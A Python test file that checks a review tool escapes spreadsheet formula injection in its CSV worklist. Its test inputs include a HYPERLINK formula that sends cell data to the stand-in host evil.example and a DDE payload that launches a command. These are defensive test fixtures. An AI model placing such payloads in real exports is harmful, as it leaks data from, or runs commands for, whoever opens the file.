"""Issue 17: text from the documents never reaches a spreadsheet as a formula (worklist.csv, merged queues)."""
from __future__ import annotations

import csv
import json
from dataclasses import replace

import pytest

from _report_sample import sample_pairs
from review.records import Category, Finding, Severity
from review.report.cells import spreadsheet_safe
from review.report.worklist import snippet, write_worklist

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_starts_are_escaped(text):
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["마이스키", "Maisky = ambassador", "", 3, -2.5, None, "'quoted"])
def test_other_values_are_left_alone(value):
    assert spreadsheet_safe(value) == value


def test_worklist_csv_cells_from_the_input_are_not_formulas(tmp_path):
    finding = Finding("repetition", Category.FLUENCY, Severity.MAJOR, "=1+1 repeated")
    pairs = [replace(p, tgt=ATTACKS[k], doc_id="=doc", id=f"@{k}", findings=(finding,), priority=9.0 - k)
             for k, p in enumerate(sample_pairs()[:len(ATTACKS)])]
    files = write_worklist(tmp_path, pairs)
    with open(files["worklist_csv"], encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == len(ATTACKS)
    cells = [c for row in rows for c in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c.startswith("-") and not _number(c))]
    assert {r["snippet"] for r in rows} == {"'" + snippet(a) for a in ATTACKS}
    assert {r["document"] for r in rows} == {"'=doc"} and {r["id"] for r in rows} == {f"'@{k}" for k in range(6)}
    # the JSONL worklist is data, not a spreadsheet: it keeps the text as it was
    records = [json.loads(x) for x in files["worklist_jsonl"].read_text(encoding="utf-8").splitlines()]
    assert {r["document"] for r in records} == {"=doc"}


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
